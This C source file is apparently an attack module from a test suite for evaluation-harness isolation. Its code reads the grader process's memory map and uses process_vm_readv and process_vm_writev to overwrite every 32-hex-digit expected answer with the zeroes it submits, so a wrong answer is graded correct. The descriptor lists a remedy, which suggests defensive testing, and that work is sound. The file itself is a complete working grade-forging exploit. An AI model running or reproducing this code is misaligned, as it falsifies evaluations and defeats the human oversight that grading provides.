// SPDX-License-Identifier: MIT
/*
 * Goal:  a wrong answer is marked correct.
 * Means: the right one is changed. process_vm_writev(2) writes to the memory of the grader, which
 *        has the expected answer there: 32 hexadecimal digits. Each such word in its writable
 *        memory is overwritten with the 32 zeroes that this program submits, so it need not know
 *        which it is.
 */
#include "attacks/attack.h"

#include <stdio.h>
#include <string.h>
#include <sys/uio.h>

#define DIGITS "0123456789abcdef"
#define WORD   32
#define CHUNK  (1ul << 20)

static const char zeroes[WORD + 1] = "00000000000000000000000000000000";
static size_t budget = 64 * CHUNK;

/* Overwrite the words in the n bytes that stand at `there` in the grader. How many; -1: refused. */
static int overwrite(pid_t pid, const char *here, unsigned long there, size_t n)
{
	int changed = 0;

	for (size_t i = 0; i < n; i++) {
		size_t word = strspn(here + i, DIGITS);
		struct iovec from = { (void *)zeroes, WORD }, to = { (void *)(there + i), WORD };

		if (word == WORD && memcmp(here + i, zeroes, WORD)) {
			if (process_vm_writev(pid, &from, 1, &to, 1, 0) != WORD)
				return -1;
			changed++;
		}
		i += word;
	}
	return changed;
}

/* A word on the edge of two chunks is missed; the pages of Python's heap have none there. */
static int search(pid_t pid, unsigned long from, unsigned long to)
{
	static char chunk[CHUNK + 1];
	int changed = 0, more;

	for (; from < to && budget >= CHUNK; from += CHUNK) {
		size_t want = to - from < CHUNK ? to - from : CHUNK;
		struct iovec here = { chunk, want }, there = { (void *)from, want };
		ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);

		budget -= want;
		if (n <= 0)
			return changed;
		chunk[n] = '\0';
		more = overwrite(pid, chunk, from, (size_t)n);
		if (more < 0)
			return -1;
		changed += more;
	}
	return changed;
}

static enum claim run(const struct brief *b)
{
	char path[64], line[512], perms[8];
	unsigned long from, to;
	int changed = 0, more = 0;
	FILE *maps;

	submit(zeroes);
	snprintf(path, sizeof(path), "/proc/%d/maps", b->worker);
	attempting(b);
	maps = fopen(path, "re");
	if (!maps)
		return denied(path);
	while (more >= 0 && fgets(line, sizeof(line), maps)) {
		more = 0;
		if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) == 3 && perms[1] == 'w')
			more = search(b->worker, from, to);
		changed += more;
	}
	fclose(maps);
	return more < 0 || !changed ? denied("process_vm_writev") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a wrong submission is marked correct",
	.means = "process_vm_writev(2) changes the expected answer in the grader's memory",
	.oracle = "grade:forged",
	.grader = GRADER_RPC,
	.quick = true,
	.attack_id = "T1055, T1565.003, CWE-471",
	.remedy = "seccomp without process_vm_writev; Landlock; a grader that is not dumpable",
	.refs = (const char *const[]){ "process_vm_writev(2)", NULL },
	.run = run,
};
